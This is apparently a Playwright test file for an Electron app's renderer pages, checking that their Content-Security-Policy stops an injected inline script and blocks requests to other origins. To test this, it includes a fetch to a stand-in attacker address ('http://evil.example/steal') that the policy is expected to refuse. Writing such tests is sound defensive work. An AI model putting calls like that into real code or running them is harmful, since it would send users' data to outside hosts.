import fs from 'node:fs'
import path from 'node:path'
import { expect, test, type Page } from './support/test'

/**
 * The Content-Security-Policy the desktop app's pages carry in their own <meta> (the app:// protocol adds no header),
 * tried in real Chromium by behaviour: a script slipped into the page does not run, and the page cannot talk to any
 * other address. The built pages (out/renderer, `npm run build`) are served from a made-up origin with no headers,
 * so only the page's own policy is at work. (The Electron window itself cannot run here; its renderer is this page.)
 */
const renderer = path.resolve(__dirname, '../../out/renderer')
const ORIGIN = 'http://floorclock.test'

async function openBuilt(page: Page, file: string): Promise<string[]> {
  const html = path.join(renderer, file)
  if (!fs.existsSync(html)) throw new Error(`${html} is missing: run npm run build`)
  const violations: string[] = []
  await page.exposeFunction('__reportViolation', (directive: string) => violations.push(directive))
  await page.addInitScript(() =>
    document.addEventListener('securitypolicyviolation', (e) =>
      (window as unknown as { __reportViolation: (d: string) => void }).__reportViolation(e.effectiveDirective)
    )
  )
  await page.route('http://**/*', (route) => {
    const url = new URL(route.request().url())
    if (url.origin !== ORIGIN)
      return route.fulfill({ status: 200, body: 'reached', headers: { 'access-control-allow-origin': '*' } })
    const local = path.join(renderer, url.pathname === '/' ? file : url.pathname)
    if (!local.startsWith(renderer) || !fs.existsSync(local) || fs.statSync(local).isDirectory())
      return route.fulfill({ status: 404, body: '' })
    const type = local.endsWith('.html')
      ? 'text/html'
      : local.endsWith('.js')
        ? 'text/javascript'
        : local.endsWith('.css')
          ? 'text/css'
          : 'application/octet-stream'
    return route.fulfill({ status: 200, body: fs.readFileSync(local), headers: { 'content-type': type } })
  })
  await page.goto(`${ORIGIN}/${file}`)
  return violations
}

for (const file of ['index.html', 'display.html']) {
  test(`${file}: an injected inline script does not run, and the page reaches only its own origin`, async ({
    page
  }) => {
    const violations = await openBuilt(page, file)
    await page.evaluate(() => {
      const script = document.createElement('script')
      script.textContent = 'window.__injected = true'
      document.head.append(script)
    })
    // The page's policy has refused the script (its violation report is in), so the script had its chance to run.
    await expect.poll(() => violations).toContain('script-src-elem')
    expect(await page.evaluate(() => (window as unknown as { __injected?: boolean }).__injected)).toBeUndefined()

    const reached = await page.evaluate(async () => {
      const tryFetch = async (url: string): Promise<string> => {
        try {
          return await (await fetch(url)).text()
        } catch {
          return 'blocked'
        }
      }
      return { remote: await tryFetch('http://evil.example/steal'), own: await tryFetch('/index.html') }
    })
    expect(reached.remote).toBe('blocked')
    expect(reached.own).toContain('<html')
    await expect.poll(() => violations).toEqual(expect.arrayContaining(['script-src-elem', 'connect-src']))
  })
}
